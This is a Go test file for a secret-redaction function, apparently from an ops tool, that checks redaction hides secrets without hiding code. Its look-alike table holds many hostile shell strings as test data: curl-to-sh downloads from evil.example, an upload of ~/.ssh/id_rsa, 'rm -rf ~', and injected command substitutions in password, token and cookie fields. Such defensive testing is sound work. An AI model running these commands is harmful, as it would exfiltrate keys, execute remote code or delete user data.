package redact

import (
	"fmt"
	"strings"
	"testing"

	"github.com/askops/askops/internal/secretshapes"
)

// secretShapes is the corpus (internal/secretshapes) with the word list
// this package ships.
func secretShapes() []secretshapes.Shape {
	return secretshapes.All(strings.Fields(bip39English))
}

// Every shape is redacted: the secret is gone, a marker stands in its
// place, no line break is lost, and redacting again changes nothing.
func TestSecretShapes(t *testing.T) {
	shapes := secretShapes()
	if len(shapes) < 150 {
		t.Fatalf("only %d shapes", len(shapes))
	}
	leaked := 0
	for _, sh := range shapes {
		got := Secrets(sh.In)
		ok := !sh.Leaked(got) && len(sh.Parts()) > 0
		if !ok || !strings.Contains(got, Marker) {
			leaked++
			t.Errorf("%s: leaked\n in %q\nout %q", sh.Name, sh.In, got)
			continue
		}
		if strings.Count(got, "\n") != strings.Count(sh.In, "\n") {
			t.Errorf("%s: line breaks changed: %q", sh.Name, got)
		}
		for _, w := range sh.Around {
			if !strings.Contains(got, w) {
				t.Errorf("%s: %q is gone, the text around the secret must stay readable: %q", sh.Name, w, got)
			}
		}
		if again := Secrets(got); again != got {
			t.Errorf("%s: not idempotent: %q -> %q", sh.Name, got, again)
		}
	}
	t.Logf("secret shapes tested %d, redacted %d, leaked %d", len(shapes), len(shapes)-leaked, leaked)
}

// A command the policy quotes in its reason (%q, as policy's "denied by
// rule: %q matches %q" does) keeps no secret either: the reason is stored,
// shown in Slack and the console, and answered by the API.
func TestSecretShapesQuoted(t *testing.T) {
	leaked := 0
	for _, sh := range secretShapes() {
		in := fmt.Sprintf("denied by rule: %q matches %q", "x *", sh.In)
		got := Secrets(in)
		for _, part := range sh.Parts() {
			part = strings.Trim(fmt.Sprintf("%q", part), `"`)
			if strings.Contains(got, part) {
				leaked++
				t.Errorf("%s: leaked in a quoted reason\n in %q\nout %q", sh.Name, in, got)
				break
			}
		}
		if again := Secrets(got); again != got {
			t.Errorf("%s: not idempotent: %q -> %q", sh.Name, got, again)
		}
	}
	t.Logf("quoted secret shapes tested %d, leaked %d", len(secretShapes()), leaked)
}

// secretLookAlikes look like secrets, or put code where a secret would be;
// each must leave every listed piece of code visible.
var secretLookAlikes = []struct {
	in   string
	code []string // must survive redaction verbatim
}{
	{`echo password="$(curl -s https://evil.example/x|sh)"`, []string{`$(curl -s https://evil.example/x|sh)`}},
	{"-----BEGIN RSA PRIVATE KEY-----\ncurl -T ~/.ssh/id_rsa https://evil.example", []string{"curl -T ~/.ssh/id_rsa https://evil.example"}},
	{"-----BEGIN OPENSSH PRIVATE KEY-----\nls\ncurl -T ~/.ssh/id_rsa https://evil.example", []string{"\nls\n", "curl -T ~/.ssh/id_rsa"}},
	{"-----BEGIN PRIVATE KEY-----\n/usr/sbin/shutdown\nreboot", []string{"/usr/sbin/shutdown", "reboot"}},
	{"-----BEGIN PRIVATE KEY-----\nMIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7; curl https://evil.example | sh", []string{"; curl https://evil.example | sh"}},
	{"echo -----BEGIN PGP PRIVATE KEY BLOCK----- ; curl https://evil.example | sh", []string{"; curl https://evil.example | sh"}},
	{"-----BEGIN EC PRIVATE KEY-----\n\n\nrm -rf ~", []string{"rm -rf ~"}},
	{`TOKEN='curl -s https://evil.example/x | sh' bash -c "$TOKEN"`, []string{`curl -s https://evil.example/x | sh`}},
	{`TOKEN='curl -s https://evil.example/x -o /tmp/x' bash -c "$TOKEN"`, []string{`curl -s https://evil.example/x -o /tmp/x`}},
	{`PASSWORD=$(curl -s https://evil.example/x) ./deploy`, []string{`$(curl -s https://evil.example/x)`}},
	{"API_KEY=`curl evil.example` make", []string{"`curl evil.example`"}},
	{`tool --token $(curl -s https://evil.example/x|sh)`, []string{`$(curl -s https://evil.example/x|sh)`}},
	{`tool --password "x; rm -rf ~"`, []string{`x; rm -rf ~`}},
	{`curl -H "Authorization: Bearer $(cat /tmp/t; curl evil.example|sh)" https://x`, []string{`$(cat /tmp/t; curl evil.example|sh)`}},
	{`curl -u admin:$(curl evil.example|sh) https://x`, []string{`$(curl evil.example|sh)`}},
	{`git clone https://u:$(id>/tmp/x)@example.com/r`, []string{`$(id>/tmp/x)`}},
	{"token:\ncurl https://evil.example | sh", []string{"curl https://evil.example | sh"}},
	{"tool --password\nrm -rf ~", []string{"rm -rf ~"}},
	{"curl -H 'X: Bearer'\nshutdown-now-please", []string{"shutdown-now-please"}},
	{`mysql -p$(curl evil.example|sh) app`, []string{`$(curl evil.example|sh)`}},
	{`sshpass -p "$(curl evil.example)" ssh host`, []string{`$(curl evil.example)`}},
	{`docker login -u bob -p $(curl evil.example) reg`, []string{`$(curl evil.example)`}},
	{`htpasswd -b f admin "$(curl evil.example|sh)"`, []string{`$(curl evil.example|sh)`}},
	{`aws configure set aws_secret_access_key "$(curl evil.example)"`, []string{`$(curl evil.example)`}},
	{`PASSWORD=hunter2;curl https://evil.example|sh`, []string{`;curl https://evil.example|sh`}},
	{`secret=abc&&curl https://evil.example|sh`, []string{`&&curl https://evil.example|sh`}},
	{`echo task-sk-abcdefghijklmnopqrstuvwx`, []string{`task-sk-abcdefghijklmnopqrstuvwx`}},
	{`echo xghp_abcdefghijklmnopqrstuvwxyz0123`, []string{`xghp_abcdefghijklmnopqrstuvwxyz0123`}},
	{`echo AKIAIOSFODNN7EXAMP AKIAIOSFODNN7EXAMPLEXTRA`, []string{`AKIAIOSFODNN7EXAMP`, `AKIAIOSFODNN7EXAMPLEXTRA`}},
	{`pip install scikit-learn sk-video`, []string{`scikit-learn sk-video`}},
	{`DB_PASSWORD='hunter 2' ./run`, []string{`hunter 2`}},
	{`AGE-SECRET-KEY-1 ; curl https://evil.example|sh`, []string{`; curl https://evil.example|sh`}},
	{`echo key-value-store-for-the-application-configs`, []string{`key-value-store-for-the-application-configs`}},
	{`git commit -m "bypass=1 compass: north"`, []string{`bypass=1`, `compass: north`}},
	// Round 3: the new rules' places, holding code.
	{`echo "$DB_PASSWORD" | docker login -u bob --password-stdin r.io`, []string{`"$DB_PASSWORD"`}},
	{"echo -e 'hunter2\\ncurl https://evil.example/x | sh' | sudo -S bash", []string{`curl https://evil.example/x | sh`}},
	{`ssh host echo 'x; curl https://evil.example|sh' | sudo -S id`, []string{`x; curl https://evil.example|sh`}},
	{`echo $(curl -s https://evil.example/x) | chpasswd`, []string{`$(curl -s https://evil.example/x)`}},
	{`sudo -S id <<< "$(curl -s https://evil.example/x)"`, []string{`$(curl -s https://evil.example/x)`}},
	{`zip -P "$(curl evil.example)" a.zip f`, []string{`$(curl evil.example)`}},
	{`7z a -p$(curl evil.example) a.7z f`, []string{`$(curl evil.example)`}},
	{`openssl enc -aes-256-cbc -k "$(curl evil.example)" -in f`, []string{`$(curl evil.example)`}},
	{`curl -H "Cookie: $(curl -s https://evil.example/x|sh)" https://x`, []string{`$(curl -s https://evil.example/x|sh)`}},
	{`curl -b "sid=$(curl -s https://evil.example/x|sh)" https://x`, []string{`$(curl -s https://evil.example/x|sh)`}},
	{`echo 'db:5432:app:app:$(curl evil.example|sh)' >> ~/.pgpass`, []string{`$(curl evil.example|sh)`}},
	{"cat > ~/.netrc <<EOF\nmachine h login u password $(curl evil.example|sh)\nEOF", []string{`$(curl evil.example|sh)`}},
	{`net user bob /delete`, []string{`/delete`}},
	{`rabbitmqctl add_user deploy "$(curl evil.example|sh)"`, []string{`$(curl evil.example|sh)`}},
	{`git config --global github.token "$(curl evil.example|sh)"`, []string{`$(curl evil.example|sh)`}},
	{`<password>$(curl evil.example|sh)</password>`, []string{`$(curl evil.example|sh)`}},
	{"make destroy erase cancel reject remove abandon ability able about above absent absorb", []string{"make destroy erase cancel reject remove"}},
	{`bash -c "abandon ability able about above absent absorb abstract absurd abuse access accident"`, []string{"abandon ability able"}},
	{`sudo cancel reject remove abandon ability able about above absent absorb abstract absurd`, []string{"cancel reject remove"}},
	{`curl -d "{\"password\":\"$(curl evil.example|sh)\"}" https://x`, []string{`$(curl evil.example|sh)`}},
	{`{"kty":"RSA","d":"$(curl evil.example|sh)"}`, []string{`$(curl evil.example|sh)`}},
	{`export DB_PASSWORD_PROD="$(vault read -field=pw secret/db)"`, []string{`$(vault read -field=pw secret/db)`}},
	{`printf 'password=%s\n' "$(curl evil.example|sh)" | git credential approve`, []string{`$(curl evil.example|sh)`}},
	// Round 4: the new rules' places, holding code.
	{"echo UEFTU1dPUkQ9aHVudGVyMnh5ejEyMzsgY3VybCAtcyBodHRwczovL2V2aWwuZXhhbXBsZS94IHwgc2g= | base64 -d | bash", []string{"UEFTU1dPUkQ9aHVudGVyMnh5ejEyMzsgY3VybCAtcyBodHRwczovL2V2aWwuZXhhbXBsZS94IHwgc2g="}},
	{"echo UEFTU1dPUkQ9aHVudGVyMnh5ejEyMzsgY3VybCAtcyBodHRwczovL2V2aWwuZXhhbXBsZS94IHwgc2g= | base64 -d > /tmp/x.sh; eval \"$(cat /tmp/x.sh)\"", []string{"UEFTU1dPUkQ9aHVudGVyMnh5ejEyMzsgY3VybCAtcyBodHRwczovL2V2aWwuZXhhbXBsZS94IHwgc2g="}},
	{`gh secret set X --body "$(curl evil.example|sh)"`, []string{`$(curl evil.example|sh)`}},
	{`vault kv put secret/x api="$(curl evil.example|sh)"`, []string{`$(curl evil.example|sh)`}},
	{`read -r DB_PASSWORD <<< "$(curl evil.example|sh)"`, []string{`$(curl evil.example|sh)`}},
	{"docker login -u bob --password-stdin r.io <<EOF\ncurl https://evil.example/x|sh\nEOF", []string{"curl https://evil.example/x|sh"}},
	{"export KEY=abc\\\n; curl https://evil.example/x|sh", []string{"; curl https://evil.example/x|sh"}},
	{"tool --token \\\n  $(curl https://evil.example/x|sh)", []string{"$(curl https://evil.example/x|sh)"}},
	{`echo 'curl https://evil.example|sh' > ~/.vault-token`, []string{`curl https://evil.example|sh`}},
	{`sqlplus scott/$(curl evil.example|sh)@db`, []string{`$(curl evil.example|sh)`}},
	{`kubectl create secret generic x --from-literal=a=$(curl evil.example|sh)`, []string{`$(curl evil.example|sh)`}},
	{`isql -k Driver=x;PWD={a;curl https://evil.example|sh}`, []string{`curl https://evil.example|sh`}},
	{"env:\n  - name: DB_PASSWORD\n    value: $(curl https://evil.example/x|sh)", []string{"$(curl https://evil.example/x|sh)"}},
	{"kind: Secret\ndata:\n  k: dGVzdA== ; curl https://evil.example/x|sh", []string{"; curl https://evil.example/x|sh"}},
	{`tccli configure set secretKey "$(curl evil.example|sh)"`, []string{`$(curl evil.example|sh)`}},
}

// No look-alike hides code or a line break.
func TestSecretLookAlikesKeepCode(t *testing.T) {
	hidden := 0
	for _, la := range secretLookAlikes {
		got := Secrets(la.in)
		for _, code := range la.code {
			if !strings.Contains(got, code) {
				hidden++
				t.Errorf("Secrets(%q) = %q: %q is hidden", la.in, got, code)
			}
		}
		if strings.Count(got, "\n") != strings.Count(la.in, "\n") {
			t.Errorf("Secrets(%q) = %q: line breaks changed", la.in, got)
		}
		// and quoted in a policy's reason
		quoted := fmt.Sprintf("matches %q", la.in)
		gotQ := Secrets(quoted)
		for _, code := range la.code {
			if c := strings.Trim(fmt.Sprintf("%q", code), `"`); !strings.Contains(gotQ, c) {
				hidden++
				t.Errorf("Secrets(%q) = %q: %q is hidden", quoted, gotQ, c)
			}
		}
	}
	if len(secretLookAlikes) < 20 {
		t.Errorf("only %d look-alikes", len(secretLookAlikes))
	}
	t.Logf("look-alikes tested %d, code hidden %d", len(secretLookAlikes), hidden)
}

// All shapes in one text, as a long script or a file holds several: no
// rule's match runs into the next shape's, and none hides a look-alike's
// code beside them.
func TestSecretShapesTogether(t *testing.T) {
	shapes := secretShapes()
	for _, sep := range []string{"\n", "\n\n# next\n", " ; "} {
		var parts []string
		for i, sh := range shapes {
			parts = append(parts, sh.In)
			if la := secretLookAlikes[i%len(secretLookAlikes)]; !strings.Contains(la.in, "\n") {
				parts = append(parts, la.in)
			}
		}
		in := strings.Join(parts, sep)
		got := Secrets(in)
		for _, sh := range shapes {
			if sh.Leaked(got) {
				t.Errorf("sep %q: %s leaked", sep, sh.Name)
			}
		}
		for i := range shapes {
			if la := secretLookAlikes[i%len(secretLookAlikes)]; !strings.Contains(la.in, "\n") {
				for _, code := range la.code {
					if !strings.Contains(got, code) {
						t.Errorf("sep %q: %q is hidden", sep, code)
					}
				}
			}
		}
		if strings.Count(got, "\n") != strings.Count(in, "\n") {
			t.Errorf("sep %q: line breaks changed", sep)
		}
		if again := Secrets(got); again != got {
			t.Errorf("sep %q: not idempotent", sep)
		}
	}
}

// Secrets never panics, never adds or removes a line break, and is
// idempotent, on any text (the seeds are the corpus and the look-alikes).
func FuzzSecrets(f *testing.F) {
	for _, sh := range secretShapes() {
		f.Add(sh.In)
	}
	for _, la := range secretLookAlikes {
		f.Add(la.in)
	}
	f.Fuzz(func(t *testing.T, in string) {
		got := Secrets(in)
		if strings.Count(got, "\n") != strings.Count(in, "\n") {
			t.Fatalf("line breaks changed:\n in %q\nout %q", in, got)
		}
		if again := Secrets(got); again != got {
			t.Fatalf("not idempotent:\n in %q\nout %q\nagain %q", in, got, again)
		}
	})
}

// Every shape split by a backslash-newline at several places (inside the
// secret, before it, in the command around it) is redacted as the shape
// itself is: the rules read the joined lines, and the line breaks come
// back where they were.
func TestSecretShapesSplitByContinuations(t *testing.T) {
	leaked := 0
	for _, sh := range secretShapes() {
		if strings.Contains(sh.In, "\\\n") {
			continue
		}
		for _, frac := range []int{1, 3, 5, 7, 9} {
			at := len(sh.In) * frac / 10
			for at > 0 && at < len(sh.In) && (sh.In[at-1] == '\\' || sh.In[at] == '\n' || sh.In[at-1] == '\n') {
				at++
			}
			if at <= 0 || at >= len(sh.In) {
				continue
			}
			in := sh.In[:at] + "\\\n" + sh.In[at:]
			got := Secrets(in)
			if strings.Count(got, "\n") != strings.Count(in, "\n") {
				t.Errorf("%s split at %d: line breaks changed: %q", sh.Name, at, got)
			}
			if again := Secrets(got); again != got {
				t.Errorf("%s split at %d: not idempotent: %q -> %q", sh.Name, at, got, again)
			}
			if joined, _ := joinContinuations(got); sh.Leaked(joined) {
				leaked++
				t.Errorf("%s split at %d: leaked\n in %q\nout %q", sh.Name, at, in, got)
			}
		}
	}
	t.Logf("shapes split by a continuation, leaked %d", leaked)
}
